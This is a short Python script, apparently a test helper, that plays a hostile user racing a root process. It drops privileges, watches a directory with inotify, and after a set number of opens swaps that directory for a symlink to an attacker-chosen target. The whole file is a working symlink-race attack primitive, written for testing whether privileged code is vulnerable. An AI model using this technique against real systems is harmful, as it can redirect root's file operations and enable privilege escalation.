"""Another user, who puts a link in the place of a directory while root works on it: swap_directory.py PARENT NAME TARGET UID COUNT

After COUNT opens of the directory PARENT/NAME, PARENT/NAME.real is the directory and PARENT/NAME a link to TARGET.
Prints "armed" when it watches, and ends when it has done so. Run by root, goes on as the user UID.
"""
import ctypes
import os
import sys

IN_OPEN = 0x20


def main():
    parent, name, target, uid, count = sys.argv[1:]
    os.setgroups([])
    os.setresgid(int(uid), int(uid), int(uid))
    os.setresuid(int(uid), int(uid), int(uid))
    os.chdir(parent)
    os.symlink(target, name + ".link")
    libc = ctypes.CDLL(None)
    fd = libc.inotify_init1(0)
    libc.inotify_add_watch(fd, name.encode(), IN_OPEN)
    print("armed", flush=True)
    for _ in range(int(count)):
        os.read(fd, 16)
    os.rename(name, name + ".real")
    os.rename(name + ".link", name)


main()
